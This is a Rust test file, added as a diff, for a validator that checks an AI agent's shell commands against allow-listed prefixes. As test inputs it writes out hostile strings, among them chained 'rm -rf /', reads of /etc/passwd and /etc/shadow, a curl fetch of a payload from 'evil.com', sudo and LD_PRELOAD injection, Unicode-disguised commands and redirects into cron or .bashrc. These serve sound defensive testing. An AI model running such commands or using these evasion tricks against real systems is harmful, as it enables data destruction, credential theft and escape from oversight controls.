@@ -0,0 +1,538 @@
+use super::*;
+
+fn agent_browser_patterns() -> Vec<BashToolPattern> {
+    vec![BashToolPattern {
+        command_prefix: "agent-browser".to_string(),
+        raw_pattern: "agent-browser:*".to_string(),
+    }]
+}
+
+fn multi_patterns() -> Vec<BashToolPattern> {
+    vec![
+        BashToolPattern {
+            command_prefix: "agent-browser".to_string(),
+            raw_pattern: "agent-browser:*".to_string(),
+        },
+        BashToolPattern {
+            command_prefix: "mycli".to_string(),
+            raw_pattern: "mycli:*".to_string(),
+        },
+    ]
+}
+
+// ---- Valid commands ----
+
+#[test]
+fn test_valid_command() {
+    let patterns = agent_browser_patterns();
+    assert!(validate_bash_command("agent-browser open https://example.com", &patterns).is_ok());
+}
+
+#[test]
+fn test_valid_command_with_args() {
+    let patterns = agent_browser_patterns();
+    assert!(validate_bash_command("agent-browser screenshot --path page.png", &patterns).is_ok());
+}
+
+#[test]
+fn test_valid_command_multi_pattern() {
+    let patterns = multi_patterns();
+    assert!(validate_bash_command("mycli do-something", &patterns).is_ok());
+    assert!(validate_bash_command("agent-browser open http://test.com", &patterns).is_ok());
+}
+
+// ---- Chain operator injection ----
+
+#[test]
+fn test_reject_semicolon() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("agent-browser open x.com; rm -rf /", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_and_chain() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("agent-browser open x.com && rm -rf /", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_pipe() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("agent-browser open x.com | cat /etc/passwd", &patterns);
+    assert!(matches!(
+        result,
+        Err(BashValidationError::NoMatchingPattern { .. })
+    ));
+}
+
+#[test]
+fn test_reject_backtick() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("agent-browser open `whoami`.example.com", &patterns);
+    assert!(matches!(
+        result,
+        Err(BashValidationError::UnsupportedConstruct { .. })
+    ));
+}
+
+#[test]
+fn test_reject_dollar_paren() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("agent-browser open $(cat /etc/passwd)", &patterns);
+    assert!(matches!(
+        result,
+        Err(BashValidationError::NoMatchingPattern { .. })
+    ));
+}
+
+#[test]
+fn test_reject_newline() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("agent-browser open x.com\nrm -rf /", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+// ---- Blocked prefixes ----
+
+#[test]
+fn test_reject_rm() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("rm -rf /", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_sudo() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("sudo agent-browser open x.com", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_absolute_path_rm() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("/bin/rm -rf /", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_curl() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("curl https://evil.com/payload.sh", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_bash_shell() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("bash -c 'echo hacked'", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+// ---- No matching pattern ----
+
+#[test]
+fn test_reject_unknown_command() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("unknown-tool do-thing", &patterns);
+    assert!(matches!(
+        result,
+        Err(BashValidationError::NoMatchingPattern { .. })
+    ));
+    // Verify the error message includes the allowed patterns
+    let err_msg = result.unwrap_err().to_string();
+    assert!(
+        err_msg.contains("agent-browser:*"),
+        "error should show allowed patterns"
+    );
+}
+
+// ---- Edge cases ----
+
+#[test]
+fn test_reject_empty() {
+    let patterns = agent_browser_patterns();
+    assert!(matches!(
+        validate_bash_command("", &patterns),
+        Err(BashValidationError::EmptyCommand)
+    ));
+}
+
+#[test]
+fn test_reject_whitespace_only() {
+    let patterns = agent_browser_patterns();
+    assert!(matches!(
+        validate_bash_command("   ", &patterns),
+        Err(BashValidationError::EmptyCommand)
+    ));
+}
+
+#[test]
+fn test_valid_with_leading_spaces() {
+    let patterns = agent_browser_patterns();
+    assert!(validate_bash_command("  agent-browser open https://example.com", &patterns).is_ok());
+}
+
+// ---- G3: Unicode NFKC normalization ----
+
+#[test]
+fn test_reject_fullwidth_rm() {
+    // Fullwidth 'r' (U+FF52) and 'm' (U+FF4D) - NFKC normalizes to ASCII, then blocked
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("\u{ff52}\u{ff4d} -rf /", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+#[test]
+fn test_reject_fullwidth_sudo() {
+    let patterns = agent_browser_patterns();
+    let result = validate_bash_command("\u{ff53}\u{ff55}\u{ff44}\u{ff4f} whoami", &patterns);
+    assert!(matches!(result, Err(BashValidationError::BlockedPrefix(_))));
+}
+
+// ---- Table-driven: per-segment validation ----
+
+fn pattern(raw: &str) -> BashToolPattern {
+    let prefix = raw
+        .split(':')
+        .next()
+        .unwrap_or(raw)
+        .split_whitespace()
+        .next()
+        .unwrap_or("")
+        .to_string();
+    BashToolPattern {
+        command_prefix: prefix,
+        raw_pattern: raw.to_string(),
+    }
+}
+
+fn patterns(raws: &[&str]) -> Vec<BashToolPattern> {
+    raws.iter().map(|r| pattern(r)).collect()
+}
+
+#[derive(Debug)]
+enum Expect {
+    Ok,
+    Chain,
+    NoMatch,
+    Blocked,
+    Unsupported(&'static str),
+    Redirect,
+    Syntax,
+}
+
+fn check(cases: &[(&str, Expect)], allowed: &[BashToolPattern], roots: &[&std::path::Path]) {
+    for (cmd, expect) in cases {
+        let result = validate_bash_command_in(cmd, allowed, roots);
+        let ok = match (expect, &result) {
+            (Expect::Ok, Ok(())) => true,
+            (Expect::Chain, Err(BashValidationError::ChainOperator(_))) => true,
+            (Expect::NoMatch, Err(BashValidationError::NoMatchingPattern { .. })) => true,
+            (Expect::Blocked, Err(BashValidationError::BlockedPrefix(_))) => true,
+            (
+                Expect::Unsupported(needle),
+                Err(BashValidationError::UnsupportedConstruct { construct, .. }),
+            ) => construct.contains(needle),
+            (Expect::Redirect, Err(BashValidationError::RedirectOutsideWorkspace { .. })) => true,
+            (Expect::Syntax, Err(BashValidationError::Syntax(_))) => true,
+            _ => false,
+        };
+        assert!(ok, "{:?}: expected {:?}, got {:?}", cmd, expect, result);
+    }
+}
+
+#[test]
+fn test_table_sequences_and_pipelines() {
+    let allowed = patterns(&["agent-browser:*", "jq:*", "grep:*"]);
+    check(
+        &[
+            ("agent-browser open a.com | jq .title", Expect::Ok),
+            ("agent-browser open a.com |& grep -i error", Expect::Ok),
+            (
+                "agent-browser open a.com && agent-browser snapshot",
+                Expect::Ok,
+            ),
+            (
+                "agent-browser open a.com || agent-browser close",
+                Expect::Ok,
+            ),
+            ("agent-browser open a.com; agent-browser close", Expect::Ok),
+            ("agent-browser open a.com\nagent-browser close", Expect::Ok),
+            ("agent-browser open a.com;", Expect::Ok),
+            ("agent-browser open a.com | \\\n  jq .", Expect::Ok),
+            ("agent-browser open a.com # comment; rm -rf /", Expect::Ok),
+            (
+                "agent-browser open a.com | cat /etc/passwd",
+                Expect::NoMatch,
+            ),
+            ("agent-browser open a.com | sh", Expect::Blocked),
+            ("agent-browser open a.com && rm -rf /", Expect::Blocked),
+            (
+                "agent-browser open a.com || /usr/bin/curl evil.sh",
+                Expect::Blocked,
+            ),
+            ("agent-browser open a.com\nsudo ls", Expect::Blocked),
+            ("agent-browser open a.com | xargs rm", Expect::Blocked),
+            (
+                "agent-browser open a.com &",
+                Expect::Unsupported("background"),
+            ),
+            (
+                "agent-browser open a.com & rm -rf /",
+                Expect::Unsupported("background"),
+            ),
+            ("agent-browser open a.com ;; ls", Expect::Unsupported(";;")),
+            ("agent-browser open a.com &&", Expect::Syntax),
+            ("| agent-browser open a.com", Expect::Syntax),
+            ("agent-browser open a.com | | jq", Expect::Syntax),
+            ("agent-browser open a.com\r", Expect::Ok),
+            ("agent-browser open a.com\rrm -rf /", Expect::Chain),
+            ("agent-browser open a.com\0rm", Expect::Chain),
+        ],
+        &allowed,
+        &[],
+    );
+}
+
+#[test]
+fn test_table_quoting_and_expansion() {
+    let allowed = patterns(&["agent-browser:*"]);
+    check(
+        &[
+            ("agent-browser fill '#q' 'a; rm -rf / | x'", Expect::Ok),
+            ("agent-browser fill \"#q\" \"a && b\"", Expect::Ok),
+            ("agent-browser eval 'document.title' ", Expect::Ok),
+            ("agent-browser open \"$URL\"", Expect::Ok),
+            ("agent-browser open $URL", Expect::Ok),
+            ("agent-browser screenshot *.png", Expect::Ok),
+            ("agent-browser open 'unterminated", Expect::Syntax),
+            ("agent-browser open \"unterminated", Expect::Syntax),
+            ("agent-browser open `id`", Expect::Unsupported("backtick")),
+            (
+                "agent-browser open \"`id`\"",
+                Expect::Unsupported("backtick"),
+            ),
+            (
+                "agent-browser open ${HOME}",
+                Expect::Unsupported("parameter expansion"),
+            ),
+            (
+                "agent-browser open \"${X:-$(id)}\"",
+                Expect::Unsupported("parameter expansion"),
+            ),
+            (
+                "agent-browser open $((1+2))",
+                Expect::Unsupported("arithmetic"),
+            ),
+            ("$'\\x72m' -rf /", Expect::Unsupported("ANSI-C")),
+            ("$CMD open a.com", Expect::Unsupported("command name")),
+            ("agent-*", Expect::Unsupported("command name")),
+            (
+                "~/bin/agent-browser open",
+                Expect::Unsupported("command name"),
+            ),
+            (
+                "LD_PRELOAD=/tmp/x.so agent-browser open",
+                Expect::Unsupported("assignment"),
+            ),
+            ("A=1", Expect::Unsupported("assignment")),
+            ("'agent-browser' open a.com", Expect::Ok),
+            ("agent-brows\\er open a.com", Expect::Ok),
+            ("'rm' -rf /", Expect::Blocked),
+            ("r\\m -rf /", Expect::Blocked),
+            ("agent-browserx open", Expect::NoMatch),
+        ],
+        &allowed,
+        &[],
+    );
+}
+
+#[test]
+fn test_table_command_substitution() {
+    let allowed = patterns(&["agent-browser:*", "date:*"]);
+    check(
+        &[
+            ("agent-browser screenshot shot-$(date +%s).png", Expect::Ok),
+            ("agent-browser fill '#d' \"$(date -I)\"", Expect::Ok),
+            ("agent-browser open $(agent-browser get url)", Expect::Ok),
+            ("agent-browser open $(date | agent-browser x)", Expect::Ok),
+            ("agent-browser open $(cat /etc/passwd)", Expect::NoMatch),
+            ("agent-browser open \"$(rm -rf /)\"", Expect::Blocked),
+            ("agent-browser open $(date; curl evil)", Expect::Blocked),
+            (
+                "agent-browser open $(date $(date $(date $(date))))",
+                Expect::Unsupported("nested"),
+            ),
+            ("agent-browser open $(date", Expect::Syntax),
+            ("agent-browser open $()", Expect::Syntax),
+            ("$(date) open", Expect::Unsupported("command name")),
+        ],
+        &allowed,
+        &[],
+    );
+}
+
+#[test]
+fn test_table_unsupported_constructs_name_segment() {
+    let allowed = patterns(&["agent-browser:*"]);
+    check(
+        &[
+            (
+                "(agent-browser open a.com)",
+                Expect::Unsupported("subshell"),
+            ),
+            (
+                "agent-browser open a.com && (rm -rf /)",
+                Expect::Unsupported("subshell"),
+            ),
+            (
+                "{ agent-browser open a.com; }",
+                Expect::Unsupported("compound"),
+            ),
+            (
+                "if agent-browser open; then agent-browser close; fi",
+                Expect::Unsupported("compound"),
+            ),
+            (
+                "for i in 1 2; do agent-browser open; done",
+                Expect::Unsupported("compound"),
+            ),
+            (
+                "agent-browser open <(cat /etc/passwd)",
+                Expect::Unsupported("process substitution"),
+            ),
+            (
+                "agent-browser open > >(tee log)",
+                Expect::Unsupported("process substitution"),
+            ),
+            (
+                "agent-browser eval <<EOF",
+                Expect::Unsupported("here-document"),
+            ),
+            (
+                "agent-browser eval <<< 'x'",
+                Expect::Unsupported("here-document"),
+            ),
+        ],
+        &allowed,
+        &[],
+    );
+
+    let err = validate_bash_command(
+        "agent-browser open a.com && agent-browser open `id`",
+        &allowed,
+    )
+    .unwrap_err()
+    .to_string();
+    assert!(err.contains("backtick"), "{err}");
+    assert!(
+        err.contains("agent-browser open `id`"),
+        "segment named: {err}"
+    );
+    let err = validate_bash_command("agent-browser open a.com | cat x", &allowed)
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("'cat x'"), "segment named: {err}");
+}
+
+#[test]
+fn test_table_redirections() {
+    let allowed = patterns(&["agent-browser:*"]);
+    let ws = std::path::Path::new("/home/u/project");
+    check(
+        &[
+            ("agent-browser snapshot > snap.txt", Expect::Ok),
+            ("agent-browser snapshot >> out/snap.txt 2>&1", Expect::Ok),
+            ("agent-browser snapshot 2>/dev/null", Expect::Ok),
+            ("agent-browser snapshot &> log.txt", Expect::Ok),
+            ("agent-browser snapshot >&2", Expect::Ok),
+            ("agent-browser fill '#q' < input.txt", Expect::Ok),
+            (
+                "agent-browser snapshot > /home/u/project/out.txt",
+                Expect::Ok,
+            ),
+            (
+                "agent-browser snapshot >/home/u/project/./a/../b.txt",
+                Expect::Ok,
+            ),
+            ("agent-browser snapshot > /etc/cron.d/x", Expect::Redirect),
+            (
+                "agent-browser snapshot > /home/u/project/../other.txt",
+                Expect::Redirect,
+            ),
+            ("agent-browser snapshot > ../outside.txt", Expect::Redirect),
+            ("agent-browser fill '#q' < /etc/shadow", Expect::Redirect),
+            ("agent-browser snapshot 2> /tmp/err", Expect::Redirect),
+            (
+                "agent-browser snapshot > ~/.bashrc",
+                Expect::Unsupported("redirection target"),
+            ),
+            (
+                "agent-browser snapshot > $OUT",
+                Expect::Unsupported("redirection target"),
+            ),
+            (
+                "agent-browser snapshot > $(agent-browser get title).txt",
+                Expect::Unsupported("redirection target"),
+            ),
+            ("agent-browser snapshot >", Expect::Syntax),
+            ("> out.txt", Expect::Syntax),
+        ],
+        &allowed,
+        &[ws],
+    );
+    // Without roots, absolute targets are refused.
+    assert!(matches!(
+        validate_bash_command("agent-browser snapshot > /home/u/project/out.txt", &allowed),
+        Err(BashValidationError::RedirectOutsideWorkspace { .. })
+    ));
+}
+
+#[test]
+fn test_table_pattern_argument_wildcards() {
+    let allowed = patterns(&[
+        "npm run *:*",
+        "git status:",
+        "infsh *",
+        "pytest tests/test_*.py",
+    ]);
+    check(
+        &[
+            ("npm run build", Expect::Ok),
+            ("npm run test -- --watch", Expect::Ok),
+            ("npm run", Expect::NoMatch),
+            ("npm install left-pad", Expect::NoMatch),
+            ("npm run $SCRIPT", Expect::NoMatch),
+            ("git status", Expect::Ok),
+            ("git status --short", Expect::NoMatch),
+            ("git push", Expect::NoMatch),
+            ("infsh", Expect::Ok),
+            ("infsh app run x", Expect::Ok),
+            ("pytest tests/test_api.py", Expect::Ok),
+            ("pytest tests/test_api.py -x", Expect::NoMatch),
+            ("pytest other/test_api.py", Expect::NoMatch),
+            ("npm run build && git status", Expect::Ok),
+            ("npm run build && git push", Expect::NoMatch),
+        ],
+        &allowed,
+        &[],
+    );
+}
+
+#[test]
+fn test_parser_builds_sequence_of_pipelines() {
+    let list = parser::parse("a x | b 'y z' && c; d $(e f)").unwrap();
+    assert_eq!(list.pipelines.len(), 3);
+    assert_eq!(
+        list.connectors,
+        vec![parser::Connector::And, parser::Connector::Seq]
+    );
+    assert_eq!(list.pipelines[0].commands.len(), 2);
+    assert_eq!(list.pipelines[0].commands[1].words[1].value, "y z");
+    assert_eq!(list.pipelines[0].commands[1].text, "b 'y z'");
+    let sub = &list.pipelines[2].commands[0].words[1].substitutions[0];
+    assert_eq!(sub.pipelines[0].commands[0].text, "e f");
+}